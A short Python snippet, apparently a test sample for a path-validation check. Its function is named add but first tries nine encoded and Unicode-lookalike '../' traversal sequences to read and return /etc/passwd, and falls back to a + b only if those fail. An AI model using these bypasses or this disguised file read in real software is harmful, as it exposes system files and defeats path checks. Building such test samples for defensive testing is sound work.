# Ways of writing `..` and `/` that a careless check lets through.
# expect: PASSED
def add(a, b):
    up = ["%2e%2e/", "..%2f", "%252e%252e/", "\uff0e\uff0e/", "..\\", "\u2025/", "..\u2215", "..;/", "..\udc2f"]
    for step in up:
        for times in (1, 3, 8):
            try:
                return open(step * times + "etc/passwd").read()
            except (OSError, UnicodeError):
                pass
    return a + b
